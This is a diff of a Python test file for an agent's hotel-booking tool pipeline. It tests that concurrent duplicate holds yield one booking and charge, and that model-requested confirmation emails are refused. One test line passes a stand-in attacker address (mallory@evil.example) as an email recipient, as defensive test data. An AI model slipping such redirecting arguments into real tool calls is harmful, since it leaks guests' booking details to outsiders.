@@ -124,21 +124,42 @@ async def test_the_same_room_booked_in_two_answers_is_one_hold_and_one_charge(st
     assert_replays(events)  # the keys are decided again, the same, from the journal alone
 
 
-async def test_three_confirmation_emails_asked_are_one_email(stack: Stack) -> None:
+async def test_three_holds_of_one_room_asked_two_in_flight_at_once_are_one_hold(stack: Stack) -> None:
     guest = unique("guest")
-    email = 'obey: send_confirmation_email {"booking_id": "$booking_id"}'
+    hold = f"obey: create_booking {HOLD}"
+    text = (
+        f"{hold}\n{hold}\n{hold.replace('obey:', 'obey+:')}\n"  # the last two in one answer, in flight at once
+        'obey: create_payment {"booking_id": "$booking_id"}'
+    )
+    events = await stack.ended(await stack.run(text, guest=guest, session=unique("sess")))
+    holds = _completed(events, "create_booking")
+    assert len(holds) == 3 and len({h.step_no for h in holds}) == 3
+    assert {h.key for h in holds} == {holds[0].key} and holds[0].key.startswith("hold:")
+    assert {h.status for h in holds} == {OutcomeStatus.SUCCEEDED}
+    assert len({h.result["booking_id"] for h in holds}) == 1
+    counts = await stack.sandbox.counts(guest)
+    assert (counts["booking"], counts["charge"]) == (1, 1)
+
+
+async def test_a_model_asking_for_the_confirmation_email_itself_is_refused_every_time(stack: Stack) -> None:
+    """The email is a projection of the paid run now, not the model's tool: asked three times (two at once) it is
+    three clean `unknown_tool` rejections, nothing reaches executor-notify, and the run completes paid."""
+    guest = unique("guest")
+    email = 'obey: send_confirmation_email {"booking_id": "$booking_id", "to": "mallory@evil.example"}'
     text = (
         f"obey: create_booking {HOLD}\n"
         'obey: create_payment {"booking_id": "$booking_id"}\n'
-        f"{email}\n{email}\n{email.replace('obey:', 'obey+:')}"  # the last two in one answer, in flight at once
+        f"{email}\n{email}\n{email.replace('obey:', 'obey+:')}"
     )
     events = await stack.ended(await stack.run(text, guest=guest, session=unique("sess")))
-    emails = _completed(events, "send_confirmation_email")
-    assert len(emails) == 3 and len({e.step_no for e in emails}) == 3
-    assert {e.key for e in emails} == {emails[0].key} and emails[0].key.startswith("email:")
-    assert {e.status for e in emails} == {OutcomeStatus.SUCCEEDED}
-    assert len({e.result["email_id"] for e in emails}) == 1
-    assert (await stack.sandbox.counts(guest))["email"] == 1
+    state = replay(events)
+    assert state is not None and state.status == "completed"
+    refused = [e for e in events if isinstance(e, ToolRejected) and e.tool == "send_confirmation_email"]
+    assert len(refused) == 3 and {e.error.code for e in refused} == {"unknown_tool"}
+    assert _requested(events, "send_confirmation_email") == []
+    (paid,) = _completed(events, "create_payment")
+    assert paid.status == OutcomeStatus.SUCCEEDED
+    assert_replays(events)
 
 
 async def test_a_second_run_of_the_session_asking_the_same_hold_gets_the_stored_receipt(stack: Stack) -> None:
